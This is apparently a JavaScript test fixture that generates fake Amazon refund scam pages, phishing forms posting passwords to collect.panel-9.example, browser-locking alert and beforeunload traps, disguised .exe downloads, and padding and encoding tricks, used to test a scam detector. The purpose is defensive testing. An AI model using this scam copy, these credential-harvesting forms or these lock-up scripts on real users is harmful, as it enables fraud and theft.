// Pages that are made rather than kept: by size, by header or by what no text file can hold.

import { takeNames } from './hostile/names.js';

/** The lines of a scam page, for pages whose point is their form and not their words. */
const SCAM = [
  'Amazon Customer Protection',
  'Your Amazon Prime membership renews today. £79.99 will be taken from your account.',
  'If you did not authorise this charge, call our Amazon refund department now on 0808 157 0142.',
  'Our technician will ask you to install AnyDesk and read out the address on your screen, ' +
    'so that the refund can be paid to your bank.',
];

/** Innocent prose, to make a page long. */
const FILLER =
  '<p>The ferry left at nine and the harbour went grey behind it. Gulls followed as far as the ' +
  'bar, then turned. On deck a man sold tea from an urn and a girl counted lighthouses.</p>\n';

/** @param {string} title @param {string} body */
function page(title, body) {
  return (
    `<!doctype html>\n<html lang="en-GB">\n<meta charset="utf-8">\n<title>${title}</title>\n` +
    `<body>\n${body}\n</body>\n</html>\n`
  );
}

const scamBody = `<h1>${SCAM[0]}</h1>\n${SCAM.slice(1)
  .map((line) => `<p>${line}</p>`)
  .join('\n')}`;

/**
 * A page with so much in it, before and behind, that no reader gets to all of it; what is in its middle
 * is shown at its top.
 *
 * @param {string} fill
 * @param {string} middle
 */
const padded = (fill, middle) =>
  `<style>body{display:flex;flex-direction:column}body>*{order:2}main{order:1}</style>` +
  `<div>${fill}</div><main>${middle}</main><div>${fill}</div>`;

/** Fillings for {@link padded}. @type {Record<string, string>} */
const FILLINGS = {
  text: FILLER.repeat(1_400),
  spans: '<span>a </span>'.repeat(45_000),
  untouched: `<style>html { pointer-events: none }</style>${FILLER.repeat(1_400)}`,
};

/** What a page is told by that is a warning beside a trap, and none without one. */
const ALERT = '<h1>Security alert</h1><p>Your computer is infected with a virus. Your data is at risk.</p>';

/** A second of silence for a player of sound: RIFF WAVE, 8,000 samples of 8 bits. */
function sound() {
  const bytes = Buffer.alloc(44 + 8_000, 0x80);
  bytes.write('RIFF', 0);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  bytes.write('WAVEfmt ', 8);
  for (const [at, number] of [[16, 16], [24, 8_000], [28, 8_000], [40, 8_000]]) bytes.writeUInt32LE(number, at);
  for (const [at, number] of [[20, 1], [22, 1], [32, 1], [34, 8]]) bytes.writeUInt16LE(number, at);
  bytes.write('data', 36);
  return `data:audio/wav;base64,${bytes.toString('base64')}`;
}

/** Ways to hold a reader; no script of them runs before somebody presses. @type {Record<string, string>} */
const TRAPS = {
  none: '',
  'a box for ever': '<script>function hold() { while (true) { alert("Call now"); } }</script>',
  'a box a hundred times': '<script>function hold() { for (let i = 0; i < 100; i++) alert("Call now"); }</script>',
  'a box every second': '<script>function hold() { setInterval(function () { alert("Call now"); }, 1000); }</script>',
  'a box for a field that is empty':
    '<script>function check(all) { for (let i = 0; i < all.length; i++) { if (!all[i].value) alert("Fill this in"); } }</script>',
  'a question to whoever leaves': '<script>function hold() { addEventListener("beforeunload", (event) => event.preventDefault()); }</script>',
  sound: `<p><audio loop src="${sound()}"></audio></p><button onclick="document.querySelector('audio').play()">More</button>`,
  'full screen': '<button onclick="document.documentElement.requestFullscreen()">More</button>',
};

/** A message to whoever reads it, of which little is said. */
const LETTER =
  '<p>Hello, this is David from the support team. Please install AnyDesk and read me the code.</p>';

/** What a form says that sends a password elsewhere. */
const CLAIM =
  '<p>This is the Amazon security team. Someone signed in to your Amazon account from a new device. ' +
  'Confirm your password below so that we can stop the order of $899.</p>';

/** The smallest document that viewers open: one page with one line. ISO 32000-1, 7.5. */
function pdf() {
  const line = 'BT /F1 24 Tf 60 700 Td (Your statement) Tj ET';
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
    `<</Length ${line.length}>>stream\n${line}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ];
  let body = '%PDF-1.4\n';
  const places = objects.map((object, index) => {
    const place = body.length;
    body += `${index + 1} 0 obj${object}endobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  return `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`;
}

/** @param {string} name */
function attachment(name) {
  return {
    body: 'MZ, and nothing that runs',
    headers: {
      'content-type': 'application/octet-stream',
      'content-disposition': `attachment; filename="${name}"`,
    },
  };
}

/**
 * @param {URL} url
 * @returns {{ body: string | Buffer, headers?: Record<string, string> } | undefined}
 */
export function madePages(url) {
  switch (url.hostname + url.pathname) {
    // The page that must not be able to switch the judge off.
    case 'csp.primerefund-desk.example/':
      return {
        body: page('Amazon Customer Protection', scamBody),
        headers: {
          'content-security-policy': "default-src 'none'; require-trusted-types-for 'script'",
        },
      };
    case 'www.barclays.co.uk/statement.pdf':
      return { body: pdf(), headers: { 'content-type': 'application/pdf' } };
    case 'csp.longread.example/':
      return {
        body: page('The ferry', FILLER.repeat(20)),
        headers: { 'content-security-policy': "default-src 'none'" },
      };
    // 10 MB of prose in some 50,000 paragraphs.
    case 'www.longread.example/ten-megabytes/':
      return { body: page('The ferry, at length', FILLER.repeat(Math.ceil(1e7 / FILLER.length))) };
    // The scam first and then 10 MB, so that a reader with a cap still meets it.
    case 'primerefund-desk.example/ten-megabytes/':
      return {
        body: page(
          'Amazon Customer Protection',
          scamBody + FILLER.repeat(Math.ceil(1e7 / FILLER.length)),
        ),
      };
    // One text node of 10 MB without a space to break at.
    case 'www.longread.example/one-word/':
      return { body: page('One word', `<p>${'a'.repeat(1e7)}</p>`) };
    // Half characters and control characters, which no text file can hold: written by a script.
    case 'www.longread.example/broken-text/':
      return {
        body: page(
          'Broken text',
          '<p id="t"></p><script>' +
            'let s = "";' +
            'for (let i = 0; i < 20000; i++) s += String.fromCharCode(0xD800 + (i % 2048), i % 32, 0xDC00 + (i * 7) % 1024, 0xFFFE, 0x202E);' +
            'document.getElementById("t").textContent = s;' +
            'document.title = s.slice(0, 300);' +
            '</script>',
        ),
      };
    // The same, with the scam in the middle of it.
    case 'primerefund-desk.example/broken-text/':
      return {
        body: page(
          'Amazon Customer Protection',
          `<p id="a"></p>${scamBody}<p id="z"></p><script>` +
            'const s = "\\uD800\\u0001\\uDFFF\\u200B\\uFFFE".repeat(2000);' +
            'document.getElementById("a").textContent = s;' +
            'document.getElementById("z").textContent = s;' +
            '</script>',
        ),
      };
    // Sent without a character set, in another one, with bytes that are not of it.
    case 'primerefund-desk.example/wrong-bytes/':
      return {
        body: Buffer.concat([
          Buffer.from([0x80, 0xc3, 0x28]),
          Buffer.from(page('Amazon', scamBody), 'latin1'),
          Buffer.from([0xc3, 0x28, 0xf0, 0x90]),
        ]),
        headers: { 'content-type': 'text/html; charset=utf-8' },
      };
    // Its elements are called like all that a script asks for, in itself and in a frame.
    case 'names.longread.example/':
      return { body: page('A letter', `<script>(${takeNames})(${JSON.stringify(scamBody)})</script>`) };
    case 'names.longread.example/root/':
      return { body: page('A letter', scamBody).replace('<html', `<html id="${url.searchParams.get('id')}"`) };
    case 'names.longread.example/framed/':
      return { body: page('A letter', '<iframe src="/" width="900" height="600"></iframe>') };
    case 'padded.longread.example/':
      return { body: page('Amazon Customer Protection', padded(FILLINGS[url.searchParams.get('with') ?? ''], scamBody)) };
    case 'padded.longread.example/calm/':
      return { body: page('The ferry, at length', padded(FILLINGS.text, '<p>The ferry was late.</p>')) };
    case 'traps.longread.example/':
      return { body: page('Security', ALERT + TRAPS[url.searchParams.get('trap') ?? 'none']) };
    // Mail programs show a message in a frame: one that has an address, and one that is written into it.
    case 'letters.fernpost.example/':
      return { body: page('Inbox', '<iframe src="/body/" width="900" height="300"></iframe>') };
    case 'letters.fernpost.example/body/':
      return { body: `<!doctype html>\n${LETTER}\n` };
    case 'letters.fernpost.example/written/':
      return { body: page('Inbox', `<iframe srcdoc="${LETTER}" width="900" height="300"></iframe>`) };
    case 'forged.longread.example/':
      return { body: page('A letter', '<iframe src="/scam/" width="900" height="600"></iframe>') };
    case 'forged.longread.example/scam/':
      return { body: page('A letter', scamBody) };
    case 'forged.longread.example/hidden/':
      return { body: page('A letter', `<style>div { display: none }</style><p>The ferry was late.</p><div>${scamBody}</div>`) };
    // Its first script asks for what is handed from one world to another.
    case 'forged.longread.example/listening/':
      return { body: page('A letter', `<script>
        globalThis.heard = [];
        for (const type of ['doorchain-port', 'doorchain-ready']) {
          addEventListener(type, (event) => { if (event instanceof MessageEvent) heard.push(type); }, true);
          dispatchEvent(new Event(type));
        }
      </script>`) };
    case 'letterbox.longread.example/form/':
      return { body: page('Message centre', `${CLAIM}<form action="https://collect.panel-9.example/"><input type="password"></form>`) };
    // Somebody's address that nobody sees.
    case 'letterbox.longread.example/sender/': {
      const lines = SCAM.slice(0, 3).map((line) => `<p>${line}</p>`);
      return { body: page('Message centre', `<i data-email="order@amazon.com" hidden></i><i data-email="order@amazon.com"></i>${lines.join('')}`) };
    }
    case 'letterbox.longread.example/button/':
      return {
        body: page(
          'Message centre',
          `${CLAIM}<form><input type="password"><button formaction="https://collect.panel-9.example/">Go</button></form>`,
        ),
      };
    // Where the browser is told which page is wanted next, and makes it ready unseen.
    case 'early.longread.example/':
      return {
        body: page(
          'Amazon Customer Protection',
          `${scamBody}<p><a href="/scam/">More</a></p>` +
            '<script type="speculationrules">{"prerender":[{"urls":["/scam/"],"eagerness":"immediate"}]}</script>',
        ),
      };
    case 'early.longread.example/scam/':
      return { body: page('Amazon Customer Protection', scamBody) };
    // What a tool's maker and what another site hand out, each under a name of the site's choice.
    case 'anydesk.com/get':
      return attachment('invoice-2026.exe');
    case 'files.fernpost.example/get':
      return attachment(url.searchParams.get('as') ?? 'letter.exe');
    default:
      return undefined;
  }
}
